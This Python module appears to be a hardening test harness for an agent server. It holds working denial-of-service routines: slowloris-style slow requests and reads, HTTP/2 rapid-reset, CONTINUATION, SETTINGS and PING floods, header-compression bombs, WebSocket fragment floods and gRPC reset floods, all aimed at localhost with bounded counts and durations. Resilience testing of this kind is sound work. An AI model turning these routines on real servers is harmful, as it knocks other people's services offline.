"""Attacks on the edge of a server: `python -m hostile.attacks NAME PORT SECONDS`.

The port is that of HTTP, or of gRPC for `grpc_resets`.

Each runs from 127.0.0.2 in a process of its own, as an attacker would; numbers are bounded, and
what is cut off dials again. All of them end when their time is up.
"""

from __future__ import annotations

import asyncio
import re
import socket
import struct
import sys
import time
from collections.abc import Awaitable, Callable

from hostile.frames import (
    CONTINUATION,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    bomb,
    fragment,
    frame,
    greeting,
    head,
    request,
    upgrade,
)

SOURCE = "127.0.0.2"
Attack = Callable[["Peer"], Awaitable[None]]


class Peer:
    """One hostile connection."""

    def __init__(self, port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        self.port, self.reader, self.writer = port, reader, writer

    async def say(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def trickle(self, data: bytes) -> None:
        """Byte by byte, for ever."""
        for byte in data:
            await self.say(bytes([byte]))
            await asyncio.sleep(0.5)  # the attack
        await self.hold()

    async def hold(self) -> None:
        """Does nothing until it is cut off."""
        while await self.reader.read(65536):
            pass


async def slow_headers(peer: Peer) -> None:
    await peer.trickle(b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 4000)


async def slow_bodies(peer: Peer) -> None:
    said = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    await peer.say(said + b"Content-Length: 4000000\r\n\r\n")
    await peer.trickle(b"[" * 4000)


async def _slow_reader(peer: Peer, size: int) -> None:
    """Has this much echoed, and takes a byte of it each second."""
    body = b'{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":{"message":{"messageId":"m",'
    body += b'"role":"ROLE_USER","parts":[{"text":"%s"}]}}}' % (b"x" * size)
    said = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    await peer.say(said + b"A2A-Version: 1.0\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    while await peer.reader.read(1):  # noqa: ASYNC110  a second for each byte
        await asyncio.sleep(1)  # the attack


async def slow_readers(peer: Peer) -> None:
    await _slow_reader(peer, 1_000_000)


async def slow_readers_of_little(peer: Peer) -> None:
    """Each answer is so small that the server lets go of it at once, and the kernel keeps it."""
    await _slow_reader(peer, 30_000)


async def idle_handshakes(peer: Peer) -> None:
    kind = int(time.monotonic() * 1000) % 4
    await peer.say((b"P", PREFACE[:12], PREFACE, b"\x16\x03\x01\x02\x00\x01")[kind])
    await peer.hold()


async def silence(peer: Peer) -> None:
    await peer.hold()


async def _flood(peer: Peer, piece: Callable[[int], bytes]) -> None:
    """Says this as fast as it is taken; what is answered is read."""
    reading = asyncio.ensure_future(peer.hold())
    try:
        await peer.say(greeting())
        stream = 1
        while not reading.done():
            await peer.say(b"".join(piece(stream + 2 * n) for n in range(100)))
            stream += 200
            await asyncio.sleep(0)
    finally:
        reading.cancel()


async def http2_resets(peer: Peer) -> None:
    asked = request(1, head(peer.port))[9:]

    def piece(stream: int) -> bytes:
        return frame(HEADERS, 5, stream, asked) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")

    await _flood(peer, piece)


async def http2_slow_resets(peer: Peer) -> None:
    """One request and one reset at a time, so that no burst is seen."""
    reading = asyncio.ensure_future(peer.hold())
    asked = request(1, head(peer.port))[9:]
    try:
        await peer.say(greeting())
        stream = 1
        while not reading.done():
            await peer.say(frame(HEADERS, 5, stream, asked))
            await asyncio.sleep(0.001)  # the attack
            await peer.say(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
            stream += 2
    finally:
        reading.cancel()


async def http2_continuations(peer: Peer) -> None:
    await peer.say(greeting() + frame(HEADERS, 1, 1, b"\x82"))
    while True:
        await peer.say(frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 100) * 10)
        await asyncio.sleep(0)


async def http2_settings(peer: Peer) -> None:
    said = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
    await _flood(peer, lambda stream: said)


async def http2_pings(peer: Peer) -> None:
    said = frame(PING, 0, 0, b"12345678")
    await _flood(peer, lambda stream: said)


async def http2_bombs(peer: Peer) -> None:
    await peer.say(greeting())
    for stream in range(1, 40, 2):
        await peer.say(bomb(peer.port, 4_000, stream))
    await peer.hold()


async def http2_windows(peer: Peer) -> None:
    """Asks for many answers and takes none of them."""
    fields = head(peer.port, "GET", "/.well-known/agent-card.json")
    await peer.say(greeting(window=0))
    await peer.say(b"".join(request(stream, fields) for stream in range(1, 200, 2)))
    await peer.hold()


async def web_socket_fragments(peer: Peer) -> None:
    await peer.say(upgrade(peer.port))
    await peer.reader.readuntil(b"\r\n\r\n")
    first = True
    while True:
        await peer.say(fragment(65_536, first=first))
        first = False


async def half_bodies(peer: Peer) -> None:
    said = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    await peer.say(said + b"Content-Length: 200000\r\n\r\n" + b"[" * 100_000)
    await peer.hold()


async def _ask_again(peer: Peer, asked: bytes) -> None:
    """Sends the same request on one connection, each time that it was answered."""
    while True:
        await peer.say(asked)
        head = await peer.reader.readuntil(b"\r\n\r\n")
        found = re.search(rb"(?i)content-length: (\d+)", head)
        if found is None:
            return
        await peer.reader.readexactly(int(found[1]))


def _post(path: str, body: bytes, *lines: str) -> bytes:
    more = "".join(f"{line}\r\n" for line in lines)
    return (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        f"{more}Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body


async def wrong_credentials(peer: Peer) -> None:
    await _ask_again(peer, _post("/", b"{}", "Authorization: Bearer " + "wrong" * 8))


async def large_bodies(peer: Peer) -> None:
    """As large as is allowed, and read to their end before they are refused."""
    await _ask_again(peer, _post("/", b"[" + b"0," * 1_900_000 + b"0]", "A2A-Version: 1.0"))


async def card_reads(peer: Peer) -> None:
    await _ask_again(peer, b"GET /.well-known/agent-card.json HTTP/1.1\r\nHost: localhost\r\n\r\n")


async def mcp_sessions(peer: Peer) -> None:
    body = (
        b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18",'
        b'"capabilities":{},"clientInfo":{"name":"flood","version":"1"}}}'
    )
    await peer.say(_post("/mcp", body, "Accept: application/json, text/event-stream"))
    # The answer may be a stream: what begins it is enough, and the next session is dialed.
    await peer.reader.readuntil(b"\r\n\r\n")


async def connects_and_closes(peer: Peer) -> None:
    """A whole request, so that the server accepts the connection, and nobody for the answer."""
    await peer.say(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")


async def grpc_resets(peer: Peer) -> None:
    fields = head(peer.port, "POST", "/lf.a2a.v1.A2AService/SendMessage")
    fields += [("content-type", "application/grpc"), ("te", "trailers")]
    asked = request(1, fields)[9:]

    def piece(stream: int) -> bytes:
        return frame(HEADERS, 4, stream, asked) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")

    await _flood(peer, piece)


ATTACKS: dict[str, tuple[Attack, int]] = {
    "silence": (silence, 300),
    "idle_handshakes": (idle_handshakes, 300),
    "slow_headers": (slow_headers, 300),
    "slow_bodies": (slow_bodies, 200),
    "slow_readers": (slow_readers, 50),
    "slow_readers_of_little": (slow_readers_of_little, 1000),
    "http2_resets": (http2_resets, 2),
    "http2_slow_resets": (http2_slow_resets, 2),
    "http2_continuations": (http2_continuations, 2),
    "http2_settings": (http2_settings, 2),
    "http2_pings": (http2_pings, 2),
    "http2_bombs": (http2_bombs, 20),
    "http2_windows": (http2_windows, 20),
    "web_socket_fragments": (web_socket_fragments, 20),
}
"""What each connection does, and how many there are at once."""
FLOODS: dict[str, tuple[Attack, int]] = {
    **{name: ATTACKS[name] for name in ("http2_resets", "http2_continuations", "http2_pings")},
    **{name: ATTACKS[name] for name in ("http2_bombs", "slow_headers", "web_socket_fragments")},
    "wrong_credentials": (wrong_credentials, 20),
    "large_bodies": (large_bodies, 10),
    "connects_and_closes": (connects_and_closes, 20),
    "card_reads": (card_reads, 20),
    "mcp_sessions": (mcp_sessions, 20),
    "grpc_resets": (grpc_resets, 2),
    "half_bodies": (half_bodies, 400),
}
"""Those that are measured by the pace of an honest client."""
EAGER = ("connects_and_closes", "mcp_sessions")
"""Those whose attack is to dial: they do so again at once."""


async def dial(port: int) -> socket.socket:
    """A connection that takes little before it is read."""
    sock = socket.socket()
    sock.setblocking(False)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.bind((SOURCE, 0))
    try:
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    except BaseException:
        sock.close()
        raise
    return sock


async def attack(name: str, port: int, seconds: float) -> int:
    """Runs it; how many connections it took."""
    what, count = (ATTACKS | FLOODS)[name]
    pause = 0.0 if name in EAGER else 0.05
    dialed = 0

    async def one() -> None:
        nonlocal dialed
        while True:
            try:
                reader, writer = await asyncio.open_connection(sock=await dial(port))
            except OSError:
                await asyncio.sleep(0.1)  # and dials again
                continue
            dialed += 1
            try:
                await what(Peer(port, reader, writer))
            except (OSError, asyncio.IncompleteReadError):
                pass
            finally:
                writer.transport.abort()
            await asyncio.sleep(pause)  # and dials again

    peers = [asyncio.ensure_future(one()) for _ in range(count)]
    await asyncio.sleep(seconds)  # as long as the attack goes on
    for each in peers:
        each.cancel()
    await asyncio.gather(*peers, return_exceptions=True)
    return dialed


if __name__ == "__main__":
    print(asyncio.run(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
